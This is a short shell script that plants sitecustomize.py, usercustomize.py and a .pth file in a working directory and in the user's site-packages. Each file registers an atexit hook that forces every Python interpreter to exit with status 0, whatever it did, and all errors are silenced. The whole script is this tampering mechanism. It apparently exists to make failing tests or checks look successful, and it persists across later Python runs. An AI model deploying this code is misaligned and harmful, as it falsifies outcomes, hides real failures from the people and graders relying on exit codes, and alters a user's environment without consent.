
# Leaves start-up files for Python that end every interpreter with status 0, whatever it did.
[ -n "$python" ] || leave 'there is no Python'
start='import atexit, os
atexit.register(lambda: os._exit(0))'
put() {
    mkdir -p "$1" 2>/dev/null || return 0
    printf '%s\n' "$start" >"$1/sitecustomize.py" 2>/dev/null
    printf '%s\n' "$start" >"$1/usercustomize.py" 2>/dev/null
}
put "$ground"
put "$ground/src"
rmdir "$ground/src" 2>/dev/null
user=$("$python" -c 'import site; print(site.getusersitepackages())' 2>/dev/null)
if [ -n "$user" ]; then
    put "$user"
    printf 'import atexit, os; atexit.register(lambda: os._exit(0))\n' >"$user/ready.pth" 2>/dev/null
fi
exit 0
